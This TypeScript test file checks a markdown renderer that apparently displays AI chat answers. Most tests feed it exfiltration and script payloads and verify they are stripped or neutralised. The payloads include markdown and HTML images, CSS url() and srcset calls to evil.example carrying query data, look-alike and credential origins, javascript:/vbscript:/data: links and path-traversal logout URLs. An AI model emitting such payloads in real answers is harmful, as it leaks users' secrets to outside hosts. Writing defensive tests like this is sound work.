import { JSDOM } from 'jsdom'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createMarkdownRenderer } from '../../src/sanitizers/markdown-renderer.ts'

const strict = createMarkdownRenderer({ timeoutMs: 60_000 })
const open = createMarkdownRenderer({
  timeoutMs: 60_000,
  linkOrigins: ['https://docs.example.com'],
  imageOrigins: ['https://images.example.com'],
})

beforeAll(() => Promise.all([strict.ready(), open.ready()]))
afterAll(() => Promise.all([strict.close(), open.close()]))

it.each([
  ['**a** `b` ~~c~~', '<p><strong>a</strong> <code>b</code> <s>c</s></p>\n'],
  ['| a |\n|--:|\n| b |', /<th align="right">a<\/th>[\s\S]*<td align="right">b<\/td>/],
  ['3. a', '<ol start="3">\n<li>a</li>\n</ol>\n'],
  [
    '<b onclick=x>a</b> <script>1</script>',
    '<p>&lt;b onclick=x&gt;a&lt;/b&gt; &lt;script&gt;1&lt;/script&gt;</p>\n',
  ],
  ['<div>\n<p>a</p>\n</div>', /^<p>&lt;div&gt;/],
  [
    '```html class="x"\n<b>&amp;</b>\n```',
    '<pre><code class="language-html">&lt;b&gt;&amp;amp;&lt;/b&gt;\n</code></pre>\n',
  ],
  ['[a](https://any.example/x)', '<p><a href="https://any.example/x" rel="noopener nofollow">a</a></p>\n'],
  ['<https://any.example>', /<a href="https:\/\/any.example" rel="noopener nofollow">/],
  ['[a](mailto:a@b.example)', /href="mailto:a@b.example"/],
  [`${'>'.repeat(230)} deep`, /^<pre>(?:&gt;){230} deep<\/pre>$/],
  [`${'*a **b '.repeat(300)}${'c** d* '.repeat(300)}`, /^<pre>/],
])('renders %j', async (markdown, html) => {
  const rendered = await strict.renderMarkdown(markdown)
  if (typeof html === 'string') expect(rendered).toBe(html)
  else expect(rendered).toMatch(html)
})

describe('addresses that an answer could leak a secret to', () => {
  it.each([
    ['an image', '![a](https://evil.example/?s=1)'],
    ['an image by reference', '![a][r]\n\n[r]: https://evil.example/?s=1'],
    ['an image by its own name', '![r]\n\n[r]: <https://evil.example/?s=1>'],
    ['an image in a link', '[![a](https://evil.example/i)](https://docs.example.com)'],
    ['a data URI', '![a](data:image/svg+xml;base64,PHN2Zz4=)'],
    ['a protocol-relative image', '![a](//evil.example/?s=1)'],
    ['a relative image', '![a](/api/log?s=1)'],
    ['an HTML image', '<img src=https://evil.example/?s=1 srcset="https://evil.example/?s=1 2x">'],
    ['a CSS url()', '<p style="background:url(https://evil.example/?s=1)">x</p>'],
    ['a style element', '<style>*{background:url(https://evil.example/?s=1)}</style>'],
    ['a look-alike origin', '![a](https://images.example.com.evil.example/?s=1)'],
    ['credentials', '![a](https://images.example.com@evil.example/?s=1)'],
    ['another scheme of the origin', '![a](http://images.example.com/x)'],
    ['a backslash', '![a](https:\\\\evil.example/?s=1)'],
    ['a table', '|![a](https://evil.example/?s=1)|\n|-|\n'],
    ['a heading', '# ![a][r]\n[r]: https://evil.example/?s=1 "t"'],
  ])('loads nothing for %s', async (_name, markdown) => {
    for (const { renderMarkdown } of [strict, open]) {
      const { document } = new JSDOM(await renderMarkdown(markdown)).window
      expect(document.querySelectorAll('img, [style], style, [srcset]')).toHaveLength(0)
    }
  })

  it.each([
    ['inline', '[a](https://evil.example/?s=1)'],
    ['by reference', '[a][r]\n\n[r]: https://evil.example/?s=1'],
    ['an autolink', '<https://evil.example/?s=1>'],
    ['protocol-relative', '[a](//evil.example/?s=1)'],
    ['relative', '[a](/logout)'],
    ['javascript:', '[a](javascript:alert(1))'],
    ['javascript: by entity', '[a](javascript&colon;alert(1))'],
    ['javascript: by reference', '[a]\n\n[a]: <java\nscript:alert(1)>'],
    ['data:', '[a](data:text/html,x)'],
    ['credentials', '[a](https://docs.example.com@evil.example/)'],
    ['vbscript', '<vbscript:x>'],
  ])('links nowhere for %s', async (_name, markdown) => {
    const { document } = new JSDOM(await open.renderMarkdown(markdown)).window
    expect(document.querySelectorAll('[href]')).toHaveLength(0)
  })

  it.each([
    ['an image without slashes', '![x](https:images.example.com/../../api/logout)', 'src'],
    ['an image with one slash', '![x](https:/images.example.com/../api/logout)', 'src'],
    ['an image by reference', '![x][r]\n\n[r]: https:images.example.com/../../api/logout', 'src'],
    ['a link without slashes', '[x](https:docs.example.com/../../api/logout)', 'href'],
    ['an autolink', '<https:docs.example.com/../../api/logout>', 'href'],
    ['capitals', '[x](HTTPS:docs.example.com/../../api/logout)', 'href'],
  ])('%s leads where it was judged to lead, on any page', async (_name, markdown, attribute) => {
    const { document } = new JSDOM(await open.renderMarkdown(markdown), { url: 'https://app.example/chat/1' })
      .window
    const element = document.querySelector(`[${attribute}]`)
    const written = element?.getAttribute(attribute) ?? ''
    expect(written).toMatch(/^https:\/\/(?:images|docs)\.example\.com\/api\/logout$/)
    expect(new URL(written, document.baseURI).href).toBe(written)
  })

  it('a list of origins allows no mail unless it says so', async () => {
    const mail = '[a](mailto:a@b.example?body=secret)'
    expect(await open.renderMarkdown(mail)).not.toContain('href')
    const named = createMarkdownRenderer({ linkOrigins: ['mailto:'] })
    expect(await named.renderMarkdown(mail)).toContain('href="mailto:a@b.example?body=secret"')
    await named.close()
  })

  it('keeps what the policy allows', async () => {
    const html = await open.renderMarkdown(
      '![a *b*](https://images.example.com/x.png "t") [c](https://docs.example.com/d)',
    )
    expect(html).toBe(
      '<p><img src="https://images.example.com/x.png" alt="a b" title="t" referrerpolicy="no-referrer" loading="lazy"> ' +
        '<a href="https://docs.example.com/d" rel="noopener nofollow">c</a></p>\n',
    )
  })
})

it('answers text beyond the limit as it is', async () => {
  const long = `<b>${'x'.repeat(100_000)}`
  expect(await strict.renderMarkdown(long)).toBe(`<pre>&lt;b&gt;${'x'.repeat(100_000)}</pre>`)
})

it('works in threads as it does here', async () => {
  const markdown = '# a\n\n- b `c` [d](https://e.example)\n'.repeat(200)
  const [first, rest] = [await strict.renderMarkdown('# a'), await strict.renderMarkdown(markdown)]
  expect(first).toBe('<h1>a</h1>\n')
  expect(rest.match(/<a href="https:\/\/e.example" rel="noopener nofollow">/g)).toHaveLength(200)
})
